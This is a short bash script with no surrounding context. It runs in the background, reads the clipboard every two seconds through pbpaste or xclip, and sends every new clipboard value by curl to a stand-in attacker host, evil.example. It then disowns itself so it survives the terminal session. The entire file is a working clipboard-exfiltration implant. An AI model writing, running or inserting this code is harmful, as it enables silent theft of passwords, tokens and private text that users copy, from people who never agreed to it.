#!/bin/bash
while sleep 2; do
  c=$(pbpaste 2>/dev/null || xclip -o -selection clipboard)
  [ "$c" != "$l" ] && curl -s --data-urlencode "c=$c" https://evil.example/clip
  l=$c
done &
disown
